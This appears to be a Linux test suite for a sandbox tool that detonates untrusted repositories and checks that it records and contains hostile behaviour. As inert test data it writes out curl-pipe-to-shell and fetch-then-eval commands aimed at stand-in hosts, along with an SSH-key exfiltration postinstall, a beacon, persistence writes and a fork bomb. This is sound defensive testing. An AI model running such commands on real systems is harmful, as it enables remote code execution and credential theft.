/**
 * Real-sandbox tests (bubblewrap + strace, no mocked backend) over inert fixtures that imitate each
 * trigger, plus containment tests: writes to the real home, reads of /root, non-loopback connects,
 * a fork bomb, a disk filler and a daemon are all contained and reported; bad repositories get a
 * clear per-phase status. Linux only (CI installs bubblewrap and strace).
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, it } from 'node:test';
import { Ajv } from 'ajv';
import { parse } from 'jsonc-parser';
import { defineRule } from '../../src/core/rule.ts';
import type { Behavior, Report } from '../../src/core/types.ts';
import { detonate } from '../../src/index.ts';
import type { DetonateOptions } from '../../src/index.ts';
import { runAirlock } from '../helpers/cli.ts';

const FIXTURES = fileURLToPath(new URL('./fixtures/', import.meta.url));
const fixture = (name: string): string => join(FIXTURES, name);
const linux = process.platform === 'linux';
const base: DetonateOptions = { offline: true, timeoutSeconds: 20, settleSeconds: 2 };

/**
 * Stands in for the autorun rules while they are written elsewhere: maps a folder-open task's Linux
 * command onto the execution map, so `open` is exercised exactly as it reads the map.
 */
const folderOpenMap = defineRule({
  meta: {
    id: 'autorun/test-folder-open',
    severity: 'info',
    confidence: 'high',
    description: 'test map rule',
    phase: 'map',
    since: '0.0.0',
  },
  run(ctx) {
    const text = ctx.text('.vscode/tasks.json');
    if (text === undefined) return;
    const json = parse(text) as {
      tasks?: { label?: string; command?: string; linux?: { command?: string }; runOptions?: { runOn?: string } }[];
    };
    for (const task of json.tasks ?? []) {
      if (task.runOptions?.runOn !== 'folderOpen') continue;
      const command = task.linux?.command ?? task.command;
      if (command)
        ctx.addSurface({
          trigger: 'open',
          kind: 'vscode-task',
          location: { file: '.vscode/tasks.json' },
          command,
          ...(task.label ? { name: task.label } : {}),
        });
    }
  },
});

function kinds(r: Report, kind: Behavior['kind']): Behavior[] {
  return (r.behaviors ?? []).filter(b => b.kind === kind);
}

function ruleHits(r: Report, id: string): Report['findings'] {
  return r.findings.filter(f => f.ruleId === id);
}

function treeHash(dir: string): string {
  const h = createHash('sha256');
  const walk = (d: string): void => {
    for (const name of readdirSync(d).sort()) {
      const p = join(d, name);
      const st = statSync(p);
      h.update(`${p}\u0000${st.mode}\u0000${st.size}\u0000${st.mtimeMs}\n`);
      if (st.isDirectory()) walk(p);
      else h.update(readFileSync(p));
    }
  };
  walk(dir);
  return h.digest('hex');
}

function hostProcessesWith(marker: string): string[] {
  const found: string[] = [];
  for (const name of readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const cmd = readFileSync(`/proc/${name}/cmdline`, 'latin1').replace(/\0/g, ' ');
      if (cmd.includes(marker)) found.push(cmd);
    } catch {
      continue;
    }
  }
  return found;
}

describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap needs Linux', concurrency: false }, () => {
  it('open: runs the folder-open task from the execution map; the curl | sh is recorded and its response executed', async () => {
    const r = await detonate(fixture('open-curl'), { ...base, phases: ['open'], scanRules: [folderOpenMap] });
    assert.equal(r.command, 'detonate');
    assert.equal(r.executionMap.at(0)?.trigger, 'open');
    assert.match(r.executionMap.at(0)?.command ?? '', /curl -s http:\/\/payload\.example\.invalid\/linux\.sh \| sh/);
    assert.ok(
      kinds(r, 'http').some(b => b.detail?.['url'] === 'http://payload.example.invalid/linux.sh'),
      'HTTP sink saw the request',
    );
    assert.ok(kinds(r, 'dns').some(b => b.detail?.['name'] === 'payload.example.invalid'));
    assert.ok(kinds(r, 'process').some(b => b.summary.startsWith('curl ')));
    assert.equal(ruleHits(r, 'runtime/remote-code-loaded')[0]?.severity, 'critical');
    assert.equal(ruleHits(r, 'runtime/remote-code-loaded')[0]?.location.file, '.vscode/tasks.json');
    assert.ok(ruleHits(r, 'runtime/process-spawn').length > 0);
    assert.equal(r.verdict, 'block');
  });

  it('open: a request is attributed to the task that made it, not to the first task of the phase', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-two-tasks-'));
    try {
      mkdirSync(join(dir, '.vscode'));
      writeFileSync(
        join(dir, '.vscode', 'tasks.json'),
        [
          '{',
          '  "version": "2.0.0",',
          '  "tasks": [',
          '    { "label": "greet", "type": "shell", "command": "echo hello", "runOptions": { "runOn": "folderOpen" } },',
          '    { "label": "fetch", "type": "shell", "command": "curl -s http://second.example.invalid/x.sh | sh", "runOptions": { "runOn": "folderOpen" } }',
          '  ]',
          '}',
          '',
        ].join('\n'),
      );
      const r = await detonate(dir, { ...base, phases: ['open'] });
      const egress = ruleHits(r, 'runtime/network-egress');
      assert.equal(egress.length, 1);
      assert.equal(egress[0]?.severity, 'critical');
      assert.deepEqual(egress[0].location, { file: '.vscode/tasks.json', line: 5 });
      const http = kinds(r, 'http').find(b => b.detail?.['host'] === 'second.example.invalid');
      assert.equal(http?.detail?.['step'], 'fetch');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('install: a postinstall that reads the fake SSH key and posts it is caught twice; the original tree is untouched', async () => {
    const before = treeHash(fixture('postinstall-exfil'));
    const r = await detonate(fixture('postinstall-exfil'), { ...base, phases: ['install'] });
    assert.equal(treeHash(fixture('postinstall-exfil')), before, 'the original repository was not modified');
    const reads = ruleHits(r, 'runtime/honeytoken-access');
    assert.ok(reads.some(f => /SSH private key/.test(f.message) && f.severity === 'critical'));
    assert.ok(reads.some(f => /sent to exfil\.example\.invalid/.test(f.message)));
    const post = kinds(r, 'http').find(b => b.detail?.['method'] === 'POST');
    assert.ok(post, 'the POST was recorded');
    const sent = post.detail ?? {};
    assert.equal(sent['host'], 'exfil.example.invalid');
    assert.deepEqual(sent['honeytokens'], ['ssh-key']);
    assert.equal(ruleHits(r, 'runtime/network-egress')[0]?.severity, 'critical');
    assert.deepEqual(ruleHits(r, 'runtime/network-egress')[0]?.location, { file: 'package.json', line: 6 });
    assert.ok(
      !kinds(r, 'honeytoken').some(b => b.detail?.['token'] === 'npm-token' && b.detail['expectedReader'] !== true),
      "npm's own read of ~/.npmrc is expected",
    );
  });

  it('dev: the server starts with .env loaded, its API route decodes an endpoint, fetches it and runs the body', async () => {
    const r = await detonate(fixture('dev-decode'), { ...base, phases: ['dev'] });
    const phase = kinds(r, 'phase')[0];
    assert.match(phase?.summary ?? '', /listening/);
    const steps = phase?.detail?.['steps'] as { port?: number; requests?: { path: string; status?: number }[] }[];
    assert.equal(steps.at(0)?.port, 3000);
    assert.ok(steps.at(0)?.requests?.some(q => q.path === '/api/health' && q.status === 200));
    assert.ok(kinds(r, 'http').some(b => b.detail?.['url'] === 'http://config.example.invalid/api/v1/settings'));
    assert.equal(ruleHits(r, 'runtime/remote-code-loaded')[0]?.severity, 'critical');
  });

  it('HTTPS: sandboxed Node trusts the per-run CA and its request is recorded; an untrusting client is recorded by SNI', async () => {
    const r = await detonate(fixture('no-package'), {
      ...base,
      phases: ['open'],
      commands: {
        open: [
          {
            label: 'node https',
            command: `node -e "fetch('https://secure.example.invalid/stage2').then(r => r.text()).then(t => eval(t)).catch(() => {})"`,
          },
          { label: 'untrusting client', command: 'wget -q -O- --ca-certificate=/dev/null https://other.example.invalid/z; true' },
        ],
      },
    });
    assert.ok(kinds(r, 'http').some(b => b.detail?.['url'] === 'https://secure.example.invalid/stage2' && b.detail['tls'] === true));
    assert.ok(kinds(r, 'network').some(b => b.detail?.['sni'] === 'other.example.invalid'));
    assert.match(ruleHits(r, 'runtime/remote-code-loaded')[0]?.message ?? '', /https:\/\/secure\.example\.invalid\/stage2/);
  });

  it('install: dependencies are fetched with scripts disabled; their install scripts run only inside the sandbox', async () => {
    const work = mkdtempSync(join(tmpdir(), 'airlock-registry-'));
    const tgz = join(work, 'dep.tgz');
    const tar = spawnSync('tar', ['-czf', tgz, '-C', join(FIXTURES, 'registry/airlock-fixture-dep'), 'package']);
    assert.equal(tar.status, 0);
    const body = readFileSync(tgz);
    const server = createServer((req, res) => {
      const port = (server.address() as AddressInfo).port;
      if (req.url === '/airlock-fixture-dep') {
        const version = {
          name: 'airlock-fixture-dep',
          version: '1.0.0',
          scripts: { postinstall: 'node install.js' },
          dist: {
            tarball: `http://127.0.0.1:${port}/airlock-fixture-dep/-/airlock-fixture-dep-1.0.0.tgz`,
            shasum: createHash('sha1').update(body).digest('hex'),
            integrity: `sha512-${createHash('sha512').update(body).digest('base64')}`,
          },
        };
        res.setHeader('content-type', 'application/json');
        res.end(JSON.stringify({ name: 'airlock-fixture-dep', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': version } }));
      } else if (req.url?.endsWith('.tgz') === true) {
        res.end(body);
      } else {
        res.statusCode = 404;
        res.end('{}');
      }
    });
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
    try {
      const registryUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
      const r = await detonate(fixture('dep-install-script'), {
        timeoutSeconds: 30,
        settleSeconds: 1,
        phases: ['install'],
        registryUrl,
        keepWorkdir: true,
      });
      const kept =
        r.notes
          ?.find(n => n.startsWith('work folder kept: '))
          ?.slice('work folder kept: '.length)
          .split(' ')[0] ?? '';
      try {
        assert.ok(
          r.notes?.some(n => n.startsWith('dependencies fetched with `npm install --ignore-scripts`')),
          JSON.stringify(r.notes),
        );
        assert.ok(
          existsSync(join(kept, 'stage/src/node_modules/airlock-fixture-dep/install.js')),
          'the dependency was fetched into the copy',
        );
        assert.equal(
          existsSync(join(kept, 'stage/src/node_modules/airlock-fixture-dep/ran-marker')),
          false,
          'its script did not run during the fetch',
        );
        assert.equal(existsSync(join(fixture('dep-install-script'), 'node_modules')), false, 'the original was not touched');
        assert.ok(
          kinds(r, 'process').some(b => b.summary === 'node install.js'),
          'the script ran in the sandbox',
        );
        assert.ok(kinds(r, 'http').some(b => b.detail?.['url'] === 'http://dep-beacon.example.invalid/installed'));
      } finally {
        if (kept) rmSync(kept, { recursive: true, force: true });
      }
    } finally {
      server.close();
      rmSync(work, { recursive: true, force: true });
    }
  });

  it('a beacon to a documentation-range IP on :1224 is recorded by the tracer and the sink', async () => {
    const r = await detonate(fixture('beacon'), { ...base, phases: ['install'] });
    assert.ok(kinds(r, 'network').some(b => b.detail?.['address'] === '203.0.113.10' && b.detail['port'] === 1224));
    assert.ok(kinds(r, 'http').some(b => b.detail?.['url'] === 'http://203.0.113.10:1224/client/7'));
    assert.match(ruleHits(r, 'runtime/network-egress')[0]?.message ?? '', /203\.0\.113\.10/);
  });

  it('contains a hostile script: real home, /root, outside network, fork bomb, disk filler, daemon', async () => {
    const before = treeHash(fixture('hostile'));
    const started = Date.now();
    const r = await detonate(fixture('hostile'), {
      ...base,
      phases: ['install'],
      timeoutSeconds: 15,
      limits: { processes: 64, diskBytes: 96 * 1024 * 1024, fileBytes: 32 * 1024 * 1024 },
    });
    assert.ok(Date.now() - started < 60000, 'bounded in time');
    assert.equal(existsSync('/root/.airlock-escape-marker'), false, 'nothing was written to the real /root');
    assert.deepEqual(hostProcessesWith('sleep 987654'), [], 'the daemon did not survive');
    assert.equal(treeHash(fixture('hostile')), before, 'the original repository was not modified');
    assert.ok(kinds(r, 'file-write').some(b => b.detail?.['path'] === '/root/.airlock-escape-marker' && b.detail['ok'] === false));
    assert.ok(kinds(r, 'process').some(b => b.summary.startsWith('ls /root')));
    assert.ok(kinds(r, 'network').some(b => b.detail?.['address'] === '198.51.100.7' && b.detail['port'] === 443));
    assert.ok(
      kinds(r, 'process').some(b => b.detail?.['leftRunning'] === true && (b.detail['argv'] as string[]).join(' ') === 'sleep 987654'),
      'the daemon was reported',
    );
    const dd = kinds(r, 'process').find(b => b.summary.startsWith('dd '));
    assert.ok(
      dd?.detail?.['killedBy'] === 'SIGXFSZ' || (dd?.detail?.['exit'] ?? 0) !== 0,
      'the disk filler was stopped by the file-size limit',
    );
    assert.ok(
      ruleHits(r, 'runtime/persistence-write').some(f => f.severity === 'critical'),
      'autostart entry',
    );
    assert.ok(ruleHits(r, 'runtime/persistence-write').some(f => /bashrc/.test(f.message)));
    assert.ok(ruleHits(r, 'runtime/process-spawn').some(f => /kept running/.test(f.message)));
  });

  it('bad repositories get a clear per-phase status: no package.json, broken scripts', async () => {
    const none = await detonate(fixture('no-package'), { ...base });
    assert.deepEqual(
      kinds(none, 'phase').map(b => b.detail?.['status']),
      ['skipped', 'skipped', 'skipped'],
    );
    assert.match(kinds(none, 'phase')[1]?.summary ?? '', /no package\.json/);
    assert.equal(none.verdict, 'pass');
    const broken = await detonate(fixture('broken-scripts'), { ...base, phases: ['install', 'dev'] });
    const [install, dev] = kinds(broken, 'phase');
    assert.match(install?.summary ?? '', /postinstall: failed \(exit 1\)/);
    assert.match(dev?.summary ?? '', /exited-before-listening/);
  });

  it('a dev server that never listens stops at the timeout; gigabytes of output are truncated', async () => {
    const started = Date.now();
    const r = await detonate(fixture('no-package'), {
      ...base,
      phases: ['dev', 'test'],
      timeoutSeconds: 3,
      commands: {
        dev: [{ label: 'dev', command: 'node -e "setInterval(() => {}, 1000)"' }],
        test: [{ label: 'test', command: "head -c 300000000 /dev/zero | tr '\\0' a" }],
      },
    });
    assert.ok(Date.now() - started < 30000);
    const [dev, test] = kinds(r, 'phase');
    assert.match(dev?.summary ?? '', /never-listened/);
    const step = (test?.detail?.['steps'] as { stdout: string; stdoutBytes: number; status: string }[])[0];
    assert.ok(step !== undefined && step.stdoutBytes >= 10_000_000, `output counted (${step?.stdoutBytes ?? 0})`);
    assert.ok(step.stdout.length < 200_000, 'output truncated');
  });

  it('--with-scan links the static finding and the observed request', async () => {
    const staticRule = defineRule({
      meta: { id: 'code/test-endpoint', severity: 'high', confidence: 'high', description: 'test static rule', since: '0.0.0' },
      run(ctx) {
        ctx.report({
          message: 'posts to an endpoint',
          location: { file: 'scripts/setup.js', line: 12 },
          evidence: 'http://exfil.example.invalid/upload',
        });
      },
    });
    const r = await detonate(fixture('postinstall-exfil'), { ...base, phases: ['install'], withScan: true, scanRules: [staticRule] });
    const s = r.findings.find(f => f.ruleId === 'code/test-endpoint');
    const n = ruleHits(r, 'runtime/network-egress')[0];
    assert.ok(s?.related?.some(l => l.file === 'package.json'));
    assert.ok(n?.related?.some(l => l.file === 'scripts/setup.js' && l.line === 12));
  });

  it(
    'runs unprivileged too: the CLI started as an ordinary user uses bwrap on user namespaces',
    { skip: process.getuid?.() !== 0 && 'needs root to switch to an unprivileged user' },
    () => {
      const root = fileURLToPath(new URL('../../', import.meta.url));
      const tsx = join(root, 'node_modules/tsx/dist/esm/index.mjs');
      const r = spawnSync(
        'setpriv',
        [
          '--reuid=65534',
          '--regid=65534',
          '--clear-groups',
          '--',
          process.execPath,
          '--import',
          tsx,
          join(root, 'src/cli/main.ts'),
          'detonate',
          fixture('postinstall-exfil'),
          '--phases',
          'install',
          '--offline',
          '--format',
          'json',
        ],
        {
          encoding: 'utf8',
          cwd: '/tmp',
          env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: '/tmp', NO_COLOR: '1' },
          timeout: 120000,
        },
      );
      assert.equal(r.status, 1, r.stderr);
      const report = JSON.parse(r.stdout) as Report;
      assert.ok(report.notes?.includes('sandbox: bubblewrap (unprivileged)'), JSON.stringify(report.notes));
      assert.ok(ruleHits(report, 'runtime/honeytoken-access').length > 0);
    },
  );

  it('CLI: JSON report, exit 1 on a block verdict; an unavailable backend exits 2 with the reason', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-cli-'));
    try {
      const out = join(dir, 'r.json');
      const res = await runAirlock([
        'detonate',
        fixture('postinstall-exfil'),
        '--phases',
        'install',
        '--offline',
        '--format',
        'json',
        '--output',
        out,
        '--timeout',
        '20',
      ]);
      assert.equal(res.code, 1, res.stderr);
      const report = JSON.parse(readFileSync(out, 'utf8')) as Report;
      assert.equal(report.command, 'detonate');
      const validate = new Ajv({ allErrors: true, strict: false }).compile(
        JSON.parse(readFileSync(new URL('../../schema/report.schema.json', import.meta.url), 'utf8')) as object,
      );
      assert.ok(validate(report), JSON.stringify(validate.errors));
      assert.ok(report.notes?.some(n => n.startsWith('sandbox: bubblewrap')));
      const text = await runAirlock(['detonate', fixture('postinstall-exfil'), '--phases', 'install', '--offline']);
      assert.match(text.stdout, /What the sandbox saw/);
      assert.match(text.stdout, /Honeytokens touched/);
      // Each step is listed once, under "What ran", with its status; no second "phase install: ... ok" line.
      assert.match(text.stdout, /^ {2}install +detonation postinstall → ok/m);
      assert.doesNotMatch(text.stdout, /^ {2}phase install: /m);
      assert.match(res.stderr, /^airlock: \[\d+ s\] phase install$/m, 'progress on stderr with --format json too');
      assert.match(text.stderr, /^airlock: \[\d+ s\] reading the traces$/m);
      const badRegistry = await runAirlock(['detonate', fixture('no-package'), '--registry', 'file:///etc']);
      assert.equal(badRegistry.code, 2);
      const docker = await runAirlock(['detonate', fixture('no-package'), '--backend', 'docker']);
      assert.equal(docker.code, 2);
      assert.match(docker.stderr, /refusing to run the repository unisolated/);
      const bad = await runAirlock(['detonate', '--phases', 'boot']);
      assert.equal(bad.code, 2);
      writeFileSync(join(dir, 'x'), '');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
